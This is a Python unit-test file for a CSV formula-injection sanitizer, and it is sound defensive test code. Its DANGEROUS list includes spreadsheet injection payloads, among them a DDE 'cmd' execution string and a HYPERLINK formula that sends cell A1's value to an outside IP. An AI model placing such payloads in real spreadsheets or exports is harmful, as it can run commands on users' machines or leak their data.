import sys
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent.parent / "scripts"))
from sanitize import sanitize_cell, to_csv_string  # noqa: E402

DANGEROUS = [
    "=1+1",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "   =1+1",
    '"=1+1',
    "\uFF1D1+1",
    '=HYPERLINK("http://203.0.113.9/?d="&A1,"x")',
]
SAFE = ["hello", "a=b", "email@mail.example", "", "1-2"]


def test_dangerous_prefixed():
    for v in DANGEROUS:
        assert sanitize_cell(v).startswith("'"), v


def test_safe_untouched():
    for v in SAFE:
        assert sanitize_cell(v) == v


def test_numbers_untouched():
    assert sanitize_cell(-5) == -5
    assert sanitize_cell(3.5) == 3.5


def test_quoted_output():
    assert to_csv_string([["=1+1", "ok"]]).strip() == "\"'=1+1\",\"ok\""
